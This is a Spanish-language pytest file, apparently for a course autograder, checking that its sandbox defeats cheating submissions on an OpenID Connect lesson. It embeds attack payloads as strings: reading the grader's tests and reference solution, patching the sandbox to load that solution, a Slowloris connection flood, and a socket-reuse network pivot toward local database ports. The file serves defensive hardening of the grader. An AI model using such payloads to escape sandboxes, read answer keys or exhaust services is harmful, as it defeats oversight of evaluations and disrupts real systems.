    e = excepcion({"mro": mro, "mensaje": "m"}, {})
    assert isinstance(e, ExcepcionRemota) and not isinstance(e, ValueError), type(e).__mro__


def test_un_stopiteration_del_objetivo_no_acaba_un_bucle_de_la_comprobacion():
    """Un StopIteration reconstruido de verdad terminaría sin error un ``map()`` de la comprobación."""
    from taller.puente import excepcion

    descripcion = {"mro": [["builtins", "StopIteration"], ["builtins", "Exception"]], "mensaje": ""}

    def llamada_remota(caso):
        if caso == 2:
            raise excepcion(descripcion, {})
        return caso

    with pytest.raises(Exception) as info:
        list(map(llamada_remota, [1, 2, 3]))  # con StopIteration de verdad: [1], sin error
    assert not isinstance(info.value, StopIteration)


# ── Lección 09: el proveedor OpenID Connect que sirven las comprobaciones ────

LECCION_09 = lecciones.buscar("09")
COMPROBACIONES_09 = LECCION_09.comprobaciones / "test_oauth.py"
MARCAS_PROHIBIDAS_09 = [
    "PISTA_VINCULAR = (",  # el código de las comprobaciones
    'verificado = datos.get("email_verified") is True',  # una línea de la solución de referencia
    "CONECTADO-A-",  # un servicio del lado de las comprobaciones alcanzado desde el recinto
    "SOLUCION-CARGADA",
]
ATAQUES_09 = {
    "canal_falso": canal_falso(COMPROBACIONES_09),
    "plugin_falso": ATAQUES["plugin_falso"],
    # Leer las comprobaciones y la solución de la lección 09.
    "leer_comprobaciones": f"""
def _leer():
    for _ruta in [{str(COMPROBACIONES_09)!r}, {str(LECCION_09.solucion / "api" / "cuentas.py")!r}]:
        try:
            print(open(_ruta).read())
        except OSError as _e:
            print("no se pudo leer", _ruta, type(_e).__name__)
en_cada_peticion(_leer)
""",
    # Que el recinto cree la app con el create_app de la solución de referencia.
    "proxy_a_la_solucion": f"""
try:
    import importlib.util as _u
    _spec = _u.spec_from_file_location("sol09", {str(LECCION_09.solucion / "api" / "__init__.py")!r},
                                       submodule_search_locations=[{str(LECCION_09.solucion / "api")!r}])
    _sol = _u.module_from_spec(_spec); sys.modules["sol09"] = _sol; _spec.loader.exec_module(_sol)
    from taller import recinto as _recinto
    _crear = _recinto.Recinto.op_crear_app
    def _op_crear_app(self, config):
        self.fabrica = _sol.create_app
        return _crear(self, config)
    _recinto.Recinto.op_crear_app = _op_crear_app
    print("SOLUCION-CARGADA")
except Exception as _e:
    print("sin solución", type(_e).__name__)
""",
    # Slowloris contra el proveedor y el sustituto de GitHub: conexiones a medio enviar que no se cierran.
    "proveedor_lento": """
_ABIERTAS = []
def _lento():
    import flask
    from urllib.parse import urlsplit
    for _p in (flask.current_app.config.get("PROVEEDORES_OAUTH") or {}).values():
        _puerto = urlsplit(_p.get("discovery_url") or _p.get("url_web") or "").port
        for _ in range(40 if _puerto and _puerto != 9 else 0):
            try:
                _s = socket.create_connection(("127.0.0.1", _puerto), timeout=0.5)
                _s.sendall(b"POST /token HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 100000000\\r\\n\\r\\n" + b"a" * 1000)
                _ABIERTAS.append(_s)
            except OSError:
                break
    print("CONEXIONES-ABIERTAS", len(_ABIERTAS))
en_cada_peticion(_lento)
""",
}


def pivote(puertos):
    """Salir de la red del recinto: directamente, y con cada socket que escucha que tenga (el de app.servir),
    tras shutdown, con connect (un núcleo que lo permita conecta en la red donde se creó el socket)."""
    return f"""
_HECHO = []
def _pivote():
    if _HECHO:
        return
    _HECHO.append(1)
    for _puerto in {puertos!r}:
        try:
            socket.create_connection(("127.0.0.1", _puerto), timeout=0.5).close()
            print(f"CONECTADO-A-{{_puerto}}")
        except OSError as _e:
            print("DIRECTO-RECHAZADO", _puerto, _e)
    for _fd in range(3, 512):
        try:
            _s = socket.socket(fileno=os.dup(_fd))
        except OSError:
            continue
        try:
            if _s.family != socket.AF_INET or not _s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                continue
            for _puerto in {puertos!r}:
                try:
                    _s.shutdown(socket.SHUT_RD)
                except OSError:
                    pass
                try:
                    _s.connect(("127.0.0.1", _puerto))
                    print(f"CONECTADO-A-{{_puerto}}")
                except OSError as _e:
                    print("PIVOTE-RECHAZADO", _puerto, _e)
        finally:
            _s.close()
en_cada_peticion(_pivote)
"""


@pytest.fixture(scope="module")
def lote_09(tmp_path_factory, requiere_jaula):
    """La lección 09: la solución, el punto de partida honesto y un ataque por entrega, calificados juntos.

    Un testigo escucha en esta red mientras se califica: ningún recinto debe llegar a él.
    """
    clase = tmp_path_factory.mktemp("lote_09") / "clase"
    shutil.copytree(LECCION_09.solucion, clase / "ana", ignore=shutil.ignore_patterns("__pycache__", "instance"))
    shutil.copytree(LECCION_09.ejercicio, clase / "honesto", ignore=shutil.ignore_patterns("__pycache__", "instance"))
    with socket.socket() as testigo:
        testigo.bind(("127.0.0.1", 0))
        testigo.listen(8)
        ataques = {**ATAQUES_09, "pivote": pivote([5432, 6379, testigo.getsockname()[1]])}
        for nombre, codigo in ataques.items():
            con_ataque(clase / nombre, codigo, base=LECCION_09.ejercicio)
        salida = clase.parent / "notas"
        inicio = time.monotonic()
        proceso = taller("calificar", "09", str(clase), "--clase", "--salida", str(salida), "--trabajos", "2")
    return {"proceso": proceso, "salida": salida, "duracion": time.monotonic() - inicio, "ataques": ataques}


def test_leccion_09_ningun_ataque_saca_nota_y_los_honestos_no_pierden_nada(lote_09):
    proceso = lote_09["proceso"]
    assert "Traceback" not in proceso.stderr, proceso.stderr
    notas = {nombre: int(fila["total"]) for nombre, fila in filas(lote_09["salida"]).items()}
    assert set(notas) == {"ana", "honesto", *lote_09["ataques"]}, notas
    assert notas["ana"] == 23, "la solución, calificada junto a los ataques, no pierde nada"
    for ataque in lote_09["ataques"]:
        assert notas[ataque] <= notas["honesto"], f"«{ataque}» sacó {notas[ataque]} (el honesto, {notas['honesto']})"


def test_leccion_09_nada_del_lado_de_las_comprobaciones_llega_al_recinto(lote_09):
    escrito = todo_lo_escrito(lote_09["salida"]) + lote_09["proceso"].stdout + lote_09["proceso"].stderr
    for marca in MARCAS_PROHIBIDAS_09:
        assert marca not in escrito, f"«{marca}» llegó a la salida"
    assert "no se pudo leer" in salida_de(lote_09, "leer_comprobaciones"), "el ataque se ejecutó y no pudo leer nada"
    pivote = salida_de(lote_09, "pivote")
    assert "DIRECTO-RECHAZADO" in pivote and "PIVOTE-RECHAZADO" in pivote, "el ataque se ejecutó y no salió de su red"
    assert "CONEXIONES-ABIERTAS" in salida_de(lote_09, "proveedor_lento")
